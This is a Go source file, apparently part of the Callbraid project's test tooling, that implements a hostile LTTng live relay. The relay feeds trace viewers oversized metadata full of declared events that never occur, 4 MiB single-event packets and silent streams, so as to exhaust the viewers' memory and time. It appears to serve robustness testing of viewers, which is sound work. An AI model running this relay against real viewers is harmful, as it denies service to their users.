// Copyright The Callbraid Authors
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/callbraid/callbraid/internal/lttng/lttnglive"
)

// Relay is an LTTng relay daemon whose sessions are as large as viewers allow. Their metadata has
// endless events. Their packets have to wait for a silent stream.
type Relay struct {
	Endpoint string
	// Sessions is the number of sessions.
	Sessions int
	// Metadata is the length of the metadata of each trace, in bytes. Each session has two traces.
	Metadata int
	// Packets is the number of packets of each session, of 4 MiB each.
	Packets int

	connections, bytes atomic.Int64
}

// packetBytes is the size of each packet.
const packetBytes = 4 << 20

// Attack serves viewers until ctx ends.
func (n *Relay) Attack(ctx context.Context) error {
	began := time.Now()
	relay, err := lttnglive.NewRelay(n.recordings(), lttnglive.RelayOptions{Restart: true, Clock: func() time.Duration { return time.Since(began) }})
	if err != nil {
		return err
	}
	return serve(ctx, n.Endpoint, func(connection net.Conn) {
		n.connections.Add(1)
		_ = relay.Serve(ctx, &countingConn{connection, &n.bytes}) // the viewer may go at any time
	})
}

// Sent returns the amount that viewers have read.
func (n *Relay) Sent() string {
	return fmt.Sprintf("%d sessions, %d connections, %s", n.Sessions, n.connections.Load(), mib(n.bytes.Load()))
}

// serve handles each connection to an endpoint until ctx ends, and returns when all have ended.
func serve(ctx context.Context, endpoint string, handle func(net.Conn)) error {
	listener, err := net.Listen("tcp", endpoint)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, func() { _ = listener.Close() })()
	var all sync.WaitGroup
	defer all.Wait()
	for {
		connection, err := listener.Accept()
		if err != nil {
			return nil // ctx ended
		}
		all.Go(func() {
			stop := context.AfterFunc(ctx, func() { _ = connection.Close() })
			handle(connection)
			if stop() {
				_ = connection.Close() // nothing is written any more
			}
		})
	}
}

// countingConn counts written bytes.
type countingConn struct {
	net.Conn
	written *atomic.Int64
}

func (c *countingConn) Write(b []byte) (int, error) {
	n, err := c.Conn.Write(b)
	c.written.Add(int64(n))
	return n, err
}

// recordings returns the sessions. They share their bytes.
func (n *Relay) recordings() (all []*lttnglive.Recording) {
	const end = time.Hour
	metadata := hostileMetadata(n.Metadata)
	packets, steps := n.packets()
	for s := range n.Sessions {
		id := uint64(s+1) * 1000
		recording := &lttnglive.Recording{
			Session: lttnglive.Session{ID: id, LiveTimer: time.Second, Host: "attack", Name: fmt.Sprintf("session%d", s)}, End: end,
		}
		for trace := range uint64(2) {
			path := fmt.Sprintf("ust/uid/%d/64-bit", trace)
			recording.Streams = append(recording.Streams, lttnglive.RecordedStream{
				Stream: lttnglive.Stream{ID: id + 10*trace, TraceID: id + trace, Metadata: true, Path: path, Channel: "metadata"},
				End:    end, Pieces: []lttnglive.MetadataPiece{{Data: metadata}},
			}, lttnglive.RecordedStream{
				Stream: lttnglive.Stream{ID: id + 10*trace + 1, TraceID: id + trace, Path: path, Channel: "channel0_0"},
				End:    end, Steps: steps, Packets: packets,
			}, lttnglive.RecordedStream{ // says nothing
				Stream: lttnglive.Stream{ID: id + 10*trace + 2, TraceID: id + trace, Path: path, Channel: "channel0_1"}, End: end,
			})
		}
		all = append(all, recording)
	}
	return all
}

// traceUUID is the UUID of all traces.
var traceUUID = [16]byte{0xa7, 0x7a, 0xc4}

// hostileMetadata returns about size bytes of declarations of events that never follow.
func hostileMetadata(size int) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, `/* CTF 1.8 */
typealias integer { size = 64; align = 8; signed = true; } := i64;
typealias integer { size = 64; align = 8; signed = false; } := u64;
typealias integer { size = 64; align = 8; signed = false; map = clock.monotonic.value; } := stamp;
trace { major = 1; minor = 8; uuid = "%x-%x-%x-%x-%x"; byte_order = le;
  packet.header := struct { integer { size = 32; align = 8; } magic; integer { size = 8; align = 8; } uuid[16]; u64 stream_id; u64 stream_instance_id; }; };
env { hostname = "attack"; };
clock { name = "monotonic"; freq = 1000000000; offset = 1700000000000000000; };
stream { id = 0;
  packet.context := struct { stamp timestamp_begin; stamp timestamp_end; u64 content_size; u64 packet_size; u64 packet_seq_num; u64 events_discarded; };
  event.header := struct { u64 id; stamp timestamp; }; };
`, traceUUID[:4], traceUUID[4:6], traceUUID[6:8], traceUUID[8:10], traceUUID[10:])
	for id := 0; b.Len() < size || id == 0; id++ {
		fmt.Fprintf(&b, "event { name = \"attack:event%d\"; id = %d; stream_id = 0; fields := struct { string _text%s; i64 _a; i64 _b; i64 _c; }; };\n", id, id, strings.Repeat("x", id%50))
	}
	return b.Bytes()
}

// packets returns the packets of a stream. Each has one event with a long text.
func (n *Relay) packets() (*bytes.Reader, []lttnglive.Step) {
	le := binary.LittleEndian
	var all []byte
	var steps []lttnglive.Step
	for i := range uint64(n.Packets) {
		begin, last := 1000*i+1, 1000*i+999
		b := le.AppendUint32(nil, 0xC1FC1FC1)
		b = append(b, traceUUID[:]...)
		b = le.AppendUint64(le.AppendUint64(b, 0), 1)
		for _, v := range [...]uint64{begin, last, packetBytes * 8, packetBytes * 8, i, 0} {
			b = le.AppendUint64(b, v)
		}
		b = le.AppendUint64(le.AppendUint64(b, 0), begin)
		text := packetBytes - len(b) - 1 - 3*8
		b = append(append(b, bytes.Repeat([]byte{'t'}, text)...), 0)
		b = append(b, make([]byte, 3*8)...)
		steps = append(steps, lttnglive.Step{Index: lttnglive.Index{
			Offset: uint64(len(all)), PacketSize: packetBytes * 8, ContentSize: packetBytes * 8,
			TimestampBegin: begin, TimestampEnd: last, Status: lttnglive.IndexOK,
		}})
		all = append(all, b...)
	}
	return bytes.NewReader(all), steps
}
